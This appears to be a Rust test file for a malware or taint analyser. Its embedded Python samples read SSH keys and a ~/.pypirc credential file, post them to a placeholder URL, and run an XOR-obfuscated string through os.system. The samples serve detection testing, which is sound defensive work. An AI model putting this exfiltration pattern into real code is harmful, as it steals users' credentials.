#[test]
fn files_read_from_credential_locations_hold_secrets() {
    let a = model(
        r#"import os, requests
from pathlib import Path

def grab(name):
    home = os.path.expanduser("~")
    requests.post("u", data=open(os.path.join(home, ".ssh", name)).read())
    requests.put("u", data=(Path.home() / ".pypirc").read_text())
    requests.patch("u", data=open(os.path.join(home, ".config", "app.toml")).read())
"#,
        FileRole::Module,
    );
    assert!(sent(&a, "requests.post", "data").has(taint::SECRET));
    assert!(sent(&a, "requests.put", "data").has(taint::SECRET));
    assert!(!sent(&a, "requests.patch", "data").has(taint::SECRET));
}

#[test]
fn names_xored_from_zipped_bytes_fold() {
    let a = model(
        r#"import os
s = "".join(chr(a ^ b) for b, a in zip(b"\xc01;\x14\xbe\xf5B\x9a", b"\xb2TJa\xdb\x866\xe9"))
os.system(s)
t = ""
for c in b"id":
    t += chr(c)
os.popen(t)
"#,
        FileRole::Module,
    );
    assert_eq!(
        call(&a, "os.system").args[0].text.as_deref(),
        Some("requests")
    );
    assert_eq!(call(&a, "os.popen").args[0].text.as_deref(), Some("id"));
}
